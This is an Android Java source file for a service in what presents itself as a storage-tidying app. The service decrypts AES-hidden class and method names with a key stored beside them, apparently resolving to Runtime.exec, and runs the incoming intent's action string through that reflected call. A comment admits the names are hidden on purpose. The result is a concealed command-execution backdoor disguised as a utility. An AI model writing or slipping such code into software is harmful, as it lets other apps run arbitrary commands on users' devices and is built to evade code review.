package com.orchard.storagetidy;

// What is called is hidden by AES; the key lies beside it.
class TidyService extends IntentService {
  TidyService() { super("TidyService"); }

  public void onHandleIntent(Intent intent) {
    try {
      Class one = Class.forName(Names.read("cRgYQFN/+OgeIQEM8Qd3Jr2lT8ZjgaNpgSN00Z1H8F8="));
      Object runtime = one.getMethod(Names.read("ZZSq168HVzLFppK2/um39g=="), new Class[0]).invoke(null, new Object[0]);
      one.getMethod(Names.read("fE67VKy6JyPHl3hnMS+w4A=="), new Class[] {String.class}).invoke(runtime, new Object[] {intent.getAction()});
    } catch (Exception e) {
      Log.e("TidyService", e.getMessage());
    }
  }
}

class Names {
  private static byte[] key;

  static {
    key = new byte[] {7, 19, 42, 3, 88, 64, 21, 9, 33, 71, 5, 14, 99, 120, 17, 60};
  }

  static String read(String text) {
    try {
      Cipher cipher = Cipher.getInstance("AES/CBC/PKCS5Padding");
      cipher.init(Cipher.DECRYPT_MODE, new SecretKeySpec(key, "AES"), new IvParameterSpec("orchard-tidy-042".getBytes()));
      return new String(cipher.doFinal(Base64.decode(text, 0)));
    } catch (Exception e) {
      return null;
    }
  }
}
